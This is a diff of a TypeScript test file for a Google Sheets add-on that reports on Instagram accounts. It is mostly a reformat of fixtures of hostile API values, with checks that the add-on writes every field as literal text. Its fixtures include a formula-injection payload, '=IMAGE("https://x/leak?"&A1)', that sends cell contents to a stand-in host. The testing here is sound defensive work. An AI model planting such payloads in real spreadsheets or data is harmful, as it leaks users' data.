@@ -16,22 +16,62 @@ const env = sandboxedAddon();
 /** What the API sends for each account (every field written as text is a trap for Sheets' parser). */
 const ACCOUNTS = [
   {
-    username: 'hostile_a', id: '17841405793187218', followers: 1000,
-    full_name: '=IMAGE("https://x/leak?"&A1)', biography: '+15551234567', category: '12%', external_url: '@x', public_phone_number: "'x", public_email: '-1',
+    username: 'hostile_a',
+    id: '17841405793187218',
+    followers: 1000,
+    full_name: '=IMAGE("https://x/leak?"&A1)',
+    biography: '+15551234567',
+    category: '12%',
+    external_url: '@x',
+    public_phone_number: "'x",
+    public_email: '-1',
   },
   {
-    username: 'hostile_b', id: '1784140579318721899', followers: 2000,
-    full_name: '0012345', biography: 'TRUE', category: '2026-01-05', external_url: '=1+1', public_phone_number: '+15551234567', public_email: '1,234',
+    username: 'hostile_b',
+    id: '1784140579318721899',
+    followers: 2000,
+    full_name: '0012345',
+    biography: 'TRUE',
+    category: '2026-01-05',
+    external_url: '=1+1',
+    public_phone_number: '+15551234567',
+    public_email: '1,234',
   },
   {
     // Differs from hostile_a's id only past a double's 15-16 digits: as numbers the two would be one.
-    username: 'hostile_c', id: '17841405793187219', followers: 3000,
-    full_name: "'x", biography: '@x', category: 'FALSE', external_url: '1/5/2026', public_phone_number: '0012345', public_email: '10:30',
+    username: 'hostile_c',
+    id: '17841405793187219',
+    followers: 3000,
+    full_name: "'x",
+    biography: '@x',
+    category: 'FALSE',
+    external_url: '1/5/2026',
+    public_phone_number: '0012345',
+    public_email: '10:30',
   },
   // A username of digits with a leading zero: the target itself is a trap in history and growth sheets.
-  { username: '0012345', id: '178414057931872180', followers: 4000, full_name: '2026-01-05', biography: '12%', category: '', external_url: '', public_phone_number: '', public_email: '' },
+  {
+    username: '0012345',
+    id: '178414057931872180',
+    followers: 4000,
+    full_name: '2026-01-05',
+    biography: '12%',
+    category: '',
+    external_url: '',
+    public_phone_number: '',
+    public_email: '',
+  },
 ];
-const TEXT_FIELDS = ['id', 'username', 'full_name', 'biography', 'category', 'external_url', 'public_phone_number', 'public_email'] as const;
+const TEXT_FIELDS = [
+  'id',
+  'username',
+  'full_name',
+  'biography',
+  'category',
+  'external_url',
+  'public_phone_number',
+  'public_email',
+] as const;
 const FIELDS = [...TEXT_FIELDS, 'followers'];
 const handles = ACCOUNTS.map((a) => a.username);
 /** The cells of one account's row, as the API sent them. */
@@ -63,13 +103,18 @@ function bulk(rt: GasRuntime, output: 'beside' | 'sheet' | 'history') {
 
 /** Every formula in the spreadsheet that did not come from the add-on's own setFormulas (the trends). */
 const dataFormulas = (rt: GasRuntime) =>
-  rt.spreadsheet.sheets.flatMap((s) => [...s.formulas].filter(([, f]) => !/^=IFERROR\(SPARKLINE\(/.test(f)).map(([at, f]) => `${s.name}!${at}: ${f}`));
+  rt.spreadsheet.sheets.flatMap((s) =>
+    [...s.formulas].filter(([, f]) => !/^=IFERROR\(SPARKLINE\(/.test(f)).map(([at, f]) => `${s.name}!${at}: ${f}`),
+  );
 
 test('a bulk run beside the column and one to a new sheet write every field exactly as the API sent it', () => {
   const rt = sheetWith();
   bulk(rt, 'beside');
   const sheet = rt.spreadsheet.sheet('Sheet1');
-  expect(sheet.getValues(`B1:${'ABCDEFGHIJ'[FIELDS.length]}${ACCOUNTS.length + 1}`)).toEqual([FIELDS, ...ACCOUNTS.map(expected)]);
+  expect(sheet.getValues(`B1:${'ABCDEFGHIJ'[FIELDS.length]}${ACCOUNTS.length + 1}`)).toEqual([
+    FIELDS,
+    ...ACCOUNTS.map(expected),
+  ]);
 
   rt.spreadsheet.select(`Sheet1!A2:A${handles.length + 1}`);
   const job = bulk(rt, 'sheet');
@@ -88,23 +133,36 @@ test('a history run appends exact rows, runs again into the same sheet (its head
   expect(names).toEqual(['IG Data history IGPROFILE']);
   const rows = rt.spreadsheet.sheet(names[0]).getValues();
   expect(rows[0]).toEqual(['date', 'handle', ...FIELDS]);
-  expect(rows.slice(1).map((r) => r.slice(1))).toEqual([...ACCOUNTS, ...ACCOUNTS].map((a) => [a.username, ...expected(a)]));
+  expect(rows.slice(1).map((r) => r.slice(1))).toEqual(
+    [...ACCOUNTS, ...ACCOUNTS].map((a) => [a.username, ...expected(a)]),
+  );
   expect(rows.slice(1).every((r) => r[0] instanceof Date)).toBe(true);
 
   const g = rt.call('igGrowthView', { sheet: names[0], field: 'followers' });
   expect(g).toMatchObject({ accounts: ACCOUNTS.length, snapshots: 2 * ACCOUNTS.length });
   const growth = rt.spreadsheet.sheet('IG Data growth').getValues();
   // The summary, biggest first: each account under its own name, its latest and previous numbers.
-  expect(growth.slice(1, 1 + ACCOUNTS.length).map((r) => [r[0], r[2], r[4]])).toEqual([...ACCOUNTS].reverse().map((a) => [a.username, a.followers, a.followers]));
+  expect(growth.slice(1, 1 + ACCOUNTS.length).map((r) => [r[0], r[2], r[4]])).toEqual(
+    [...ACCOUNTS].reverse().map((a) => [a.username, a.followers, a.followers]),
+  );
   expect(dataFormulas(rt)).toEqual([]);
 });
 
-test('a tracker keeps each account\'s id as every digit it has: two ids one double apart stay two accounts', () => {
+test("a tracker keeps each account's id as every digit it has: two ids one double apart stay two accounts", () => {
   const rt = sheetWith();
-  const { tracker } = rt.call('igTrackerCreate', { fields: 'followers', every: 'weekly', weekday: 1, hour: 7, cap: 100, name: 'Hostile' });
+  const { tracker } = rt.call('igTrackerCreate', {
+    fields: 'followers',
+    every: 'weekly',
+    weekday: 1,
+    hour: 7,
+    cap: 100,
+    name: 'Hostile',
+  });
   let r = rt.call('igTrackerStep', tracker.id);
   while (!r.done) r = rt.call('igTrackerStep', tracker.id);
-  const history = rt.spreadsheet.sheets.find((s) => s.name.startsWith('IG Data history') && s.name.includes('Hostile'))!;
+  const history = rt.spreadsheet.sheets.find(
+    (s) => s.name.startsWith('IG Data history') && s.name.includes('Hostile'),
+  )!;
   const rows = history.getValues();
   const idCol = rows[0].indexOf('id');
   expect(idCol).toBeGreaterThan(1);
@@ -117,13 +175,20 @@ test('a tracker keeps each account\'s id as every digit it has: two ids one doub
 
 test('the usage export writes the labels as text and the credits as numbers', () => {
   const rt = sheetWith();
-  const rows = [['Day', 'What', 'Credits'], ['2026-11-25', '=IMAGE("https://x/leak?"&A1)', 3], ['2026-11-25', '0012345', 2], ['2026-11-26', 'TRUE', 1]];
+  const rows = [
+    ['Day', 'What', 'Credits'],
+    ['2026-11-25', '=IMAGE("https://x/leak?"&A1)', 3],
+    ['2026-11-25', '0012345', 2],
+    ['2026-11-26', 'TRUE', 1],
+  ];
   rt.call('igExportUsage', rows);
-  expect(rt.spreadsheet.sheet('IG Data usage').getValues()).toEqual(rows.map((r, i) => (i ? [new Date(`${r[0]}T00:00:00Z`), r[1], r[2]] : r)));
+  expect(rt.spreadsheet.sheet('IG Data usage').getValues()).toEqual(
+    rows.map((r, i) => (i ? [new Date(`${r[0]}T00:00:00Z`), r[1], r[2]] : r)),
+  );
   expect(dataFormulas(rt)).toEqual([]);
 });
 
-test('a vet\'s scorecard writes the accounts as typed and the checks\' text as text; its only formulas are its own verdicts and links', () => {
+test("a vet's scorecard writes the accounts as typed and the checks' text as text; its only formulas are its own verdicts and links", () => {
   const rt = sheetWith();
   let job = rt.call('igVetStart', { checks: ['engagement', 'niche'], cap: 100 }).job;
   while (job.status === 'running') job = rt.call('igBulkStep', job.id);
